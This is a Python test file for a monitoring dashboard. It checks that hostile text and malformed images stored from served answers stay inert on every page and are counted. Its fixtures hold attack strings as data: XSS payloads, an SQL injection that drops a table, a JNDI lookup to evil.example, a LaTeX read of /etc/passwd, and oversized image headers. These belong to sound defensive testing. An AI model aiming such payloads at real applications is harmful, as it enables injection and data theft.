"""What users, models and reviewers write, and what they show, goes from a served answer to the pages as what it is.

Nothing of it is obeyed, nothing is lost without being counted, and no page fails. Loaders of files are in
test_hostile_files.py, single functions in test_dashboard_words.py and test_records_images.py.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import partial
from html.parser import HTMLParser
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
import streamlit
from PIL import Image
from sqlalchemy import select
from streamlit.testing.v1 import AppTest

from fastrm_monitor.dashboard import queries, words
from fastrm_monitor.dashboard.queries import Queue
from fastrm_monitor.monitor import Monitor
from fastrm_monitor.records import claims, export, purge
from fastrm_monitor.records.images import load_picture
from fastrm_monitor.records.models import Case
from fastrm_monitor.records.purge import Counts, Selection
from fastrm_monitor.records.store import Store
from fastrm_monitor.records.text import clean_text
from tests.pages import CALIBRATION, CASE, HEALTH, OVERVIEW, QUEUE, opened, sent, shown
from tests.servers import answer, assess, serving

MARK = "zq7"
"""Begins every hostile text, so that it can be found wherever it is shown."""

TEXTS = {
    "plain": "a plain text",
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>",
    "closing tags": "</bdi></div></table><iframe srcdoc='<b>'></iframe><style>*{display:none}</style>",
    "quotes": "\"'` onfocus=alert(1) autofocus style='position:fixed' &lt;b&gt; &#x3c;script&#x3e;",
    "markdown": "![x](javascript:alert(1)) [link](https://evil.example) **bold** :material/delete: :red[x] # head",
    "LaTeX": r"$$\href{javascript:alert(1)}{x}$$ \input{/etc/passwd} $\color{red}x$",
    "SQL": "'); DROP TABLE cases; --' OR 1=1 %s %(x)s ? :name {0} ${jndi:ldap://evil.example/a}",
    "bidi": "\u202eevil\u2066\u2069\u200f\u061c \u200b\ufeff\u2028\u2029",
    "NUL": "a\x00b\x00\x00c",
    "lone surrogates": "a\ud800b\udfffc \ud83d\ude00",
    "ANSI": "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x1b[0m \x9b31m\x08\x08\r",
    "rich": "[red]x[/red] [link=https://evil.example]y[/link] [/]",
    "combining": "Z" + "\u0323\u0301\u0489" * 200,
    "a megabyte": "long <b>" + "word " * 210_000,
    "a megabyte of controls": "\u202e" * 350_000,
}
PAGES = (OVERVIEW, HEALTH, CALIBRATION, QUEUE, CASE)
WANTED = {"state": "all", "kind": "all"}
EVERY_TEXT = pytest.mark.parametrize("name", [name for name in TEXTS if name != "plain"])


def hostile(name: str) -> str:
    return f"{MARK} {TEXTS[name]}"


def tell(monitor: Monitor, name: str, number: int = 1) -> str:
    """Serve an answer that is hostile in every text, and flagged; returns its case id."""
    text, one = hostile(name), assess(monitor, number)
    said: dict[str, Any] = {"question": text, "text": text, "model": text, "user_key": text, "request_id": text}
    monitor.record(replace(answer(number), **said), one)
    assert one.case_id is not None
    return one.case_id


@pytest.fixture
def url(any_store_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """A store, SQLite and then PostgreSQL, that the pages open."""
    monkeypatch.setenv("FASTRM_STORE", any_store_url)
    yield any_store_url
    streamlit.cache_resource.clear()


class Elements(HTMLParser):
    """The elements, with the names of their attributes, and the text that a browser would find."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.found: set[tuple[str, tuple[str, ...]]] = set()
        self.text = ""
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.add((tag, tuple(name for name, _ in attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def check_inert(page: AppTest, plain: AppTest) -> None:
    """The page has no element that one with plain texts has not, but for marks, and hostile text is in no Markdown."""
    mark = ("span", ("class", "title"))
    assert Elements(shown(page)).found - {mark} <= Elements(shown(plain)).found
    said = sent(page)
    assert not set("\x00\x1b\x07\x9b\u202e\u2066\u200b\ufeff\u2028") & set(said)
    for kind in ("markdown", "heading", "caption", "text", "latex", "metric", "button", "alert", "expander"):
        assert not [part for part in page.get(kind) if MARK in str(part.proto)], kind


def judge(store: Store, case_id: str, text: str) -> None:
    """Review a case with a text in every place, and be at it."""
    store.review(case_id, "wrong", text, note=text, tags=[text])
    claims.claim(store, case_id, text, case_id)


@EVERY_TEXT
def test_text_is_kept(url: str, name: str) -> None:
    """A hostile text is stored whole but for what no database takes, is found again, and is exported as it is."""
    text = hostile(name)
    kept = clean_text(text)
    monitor = serving(url)
    case_id = tell(monitor, name)
    assert monitor.flush(30)
    assert monitor.balance().stored == 1
    assert not [key for key in monitor.counters.snapshot() if key[0] in ("failed", "dropped")]
    monitor.close()
    with Store(url) as store:
        judge(store, case_id, text)
        with store.session() as session:
            view = queries.case(session, case_id)
            (listed,) = queries.rows(session, Queue("all", "all", "newest"), 9)
        (row,) = export.rows(store, lambda path, content: None)
    assert view is not None
    assert listed.question == kept[: len(listed.question)]
    assert (view.question, view.answer) == (kept, kept)
    assert (view.model, view.request_id) == (kept[:255], kept[:255])
    assert (view.reviews[0].note, view.reviews[0].reviewer, view.reviews[0].tags) == (kept, kept[:255], (kept,))
    assert (row["question"], row["note"], row["tags"]) == (kept, kept, [kept])
    assert "\n" not in export.line(row)


def test_text_is_inert_on_every_page(url: str) -> None:
    """Each hostile text is shown as text on every page, by which no element and no Markdown comes to be."""
    with Store(url) as store:
        monitor = serving(url)
        tame = tell(monitor, "plain")
        assert monitor.flush(30)
        judge(store, tame, TEXTS["plain"])
        plain = {page: opened(page, **WANTED, case=tame) for page in PAGES}
        streamlit.cache_resource.clear()
        ids = {name: tell(monitor, name) for name in TEXTS if name != "plain"}
        assert monitor.flush(30)
        monitor.close()
        for name, case_id in ids.items():
            judge(store, case_id, hostile(name))
    for page in PAGES:
        if page != CASE:
            check_inert(opened(page, **WANTED, case=ids["script"]), plain[page])
    for name, case_id in ids.items():
        at = opened(CASE, case=case_id)
        check_inert(at, plain[CASE])
        assert MARK in Elements(shown(at)).text, name


def test_end_of_a_long_text_is_said() -> None:
    """A page shows the beginning of a text that would stop the browser, and says how much more is stored."""
    found = Elements(words.inert("\u202e" * (words.MOST_SHOWN + 1234)))
    assert found.text.count("U+202E") == words.MOST_SHOWN
    assert found.text.endswith("1,234 more characters are stored; an export has them")
    assert Elements(words.inert("x" * words.MOST_SHOWN)).text == "x" * words.MOST_SHOWN


@EVERY_TEXT
def test_user_with_a_hostile_key(url: str, name: str) -> None:
    """All answers of a user whose key is hostile are found and deleted by that key, and nobody else's are."""
    monitor = serving(url)
    for number, who in enumerate((name, "plain", name)):
        tell(monitor, who, number)
    assert monitor.flush(30)
    monitor.close()
    with Store(url) as store:
        assert sum(purge.purge(store, Selection(user_key=hostile(name))), Counts()).cases == 2
        with store.session() as session:
            assert session.scalars(select(Case.user_key)).all() == [hostile("plain")]
        assert store.totals()["stored", ""] == 3


# --- pictures --------------------------------------------------------------------------------------------------------


def encoded(kind: str, picture: Image.Image | None = None, **options: object) -> bytes:
    buffer = BytesIO()
    (picture or Image.effect_noise((64, 48), 60).convert("RGB")).save(buffer, kind, **options)
    return buffer.getvalue()


def declared(width: int, height: int) -> bytes:
    """A PNG of a few bytes that says it is so large."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 9)) + chunk(b"IEND", b"")
    )


def with_text() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = f"{MARK} <script>alert(1)</script>"  # ImageDescription
    exif[0x8298] = f"{MARK} 48.85 N 2.35 E"  # Copyright
    return encoded("JPEG", exif=exif, comment=f"{MARK} comment".encode())


def animated() -> bytes:
    frames = [Image.new("RGB", (64, 48), color) for color in ("red", "green", "blue")]
    return encoded("GIF", frames[0], save_all=True, append_images=frames[1:])


GOOD = {
    "EXIF with text": ("p.jpg", with_text()),
    "animated": ("p.gif", animated()),
    "CMYK": ("p.jpg", encoded("JPEG", Image.new("CMYK", (64, 48), (10, 90, 20, 0)))),
    "16 bits": ("p.png", encoded("PNG", Image.new("I;16", (64, 48), 40_000))),
    "palette with transparency": (
        "p.png",
        encoded("PNG", Image.new("RGB", (64, 48), "red").convert("P"), transparency=3),
    ),
    "wrong extension": ("p.png", encoded("WEBP")),
    "markup as its name": ("<img src=x onerror=alert(1)>.png", encoded("PNG")),
    "a very long line": ("p.png", encoded("PNG", Image.new("RGB", (20_000, 1)))),
}
BAD = {
    "100 megapixels declared": ("p.png", declared(10_000, 10_000)),
    "4 gigapixels declared": ("p.png", declared(65_000, 65_000)),
    "truncated": ("p.jpg", encoded("JPEG")[:700]),
    "nothing": ("p.png", b""),
    "markup": ("p.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "PostScript": ("p.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n"),
}


def served_with(url: str, makers: list[partial[Image.Image]]) -> tuple[Monitor, list[str]]:
    """Serve an answer for each picture, and close the server; returns it with the case ids."""
    monitor = serving(url, pictures="thumbnail")
    ids = []
    for number, maker in enumerate(makers):
        one = assess(monitor, number)
        monitor.record(replace(answer(number), pictures=(maker,)), one)
        assert one.case_id is not None
        ids.append(one.case_id)
    assert monitor.flush(60)
    monitor.close()
    return monitor, ids


def opened_only(path: Path) -> Image.Image:
    return Image.open(BytesIO(path.read_bytes()))


@pytest.mark.parametrize("opener", [load_picture, opened_only])
def test_pictures_from_answer_to_pages(url: str, tmp_path: Path, opener: Callable[[Path], Image.Image]) -> None:
    """Every odd picture is kept as bare pixels and shown; every broken one is counted, and its case says so.

    So it is, too, where an engine hands over a file that was opened and not decoded.
    """
    makers = []
    for number, (name, content) in enumerate([*GOOD.values(), *BAD.values()]):
        folder = tmp_path / str(number)
        folder.mkdir()
        (folder / name).write_bytes(content)
        makers.append(partial(opener, folder / name))
    monitor, ids = served_with(url, makers)
    balance, counts = monitor.balance(), monitor.counters.snapshot()
    assert balance.stored == len(makers)
    assert balance.holds
    assert counts["failed", "picture"] == len(BAD)
    with Store(url) as store, store.session() as session:
        views = [queries.case(session, one) for one in ids]
    for number, (name, view) in enumerate(zip([*GOOD, *BAD], views, strict=True)):
        assert view is not None
        (picture,) = view.pictures
        page = opened(CASE, case=view.case_id)
        grey = "The picture was not stored" in shown(page)
        if number < len(GOOD):
            assert picture.content is not None, name
            assert MARK.encode() not in picture.content
            with Image.open(BytesIO(picture.content)) as kept:
                assert (kept.mode, getattr(kept, "n_frames", 1)) == ("RGB", 1)
                assert max(kept.size) <= 512
                assert not kept.getexif()
            assert not grey, name
        else:
            assert picture.content is None, name
            assert grey, name
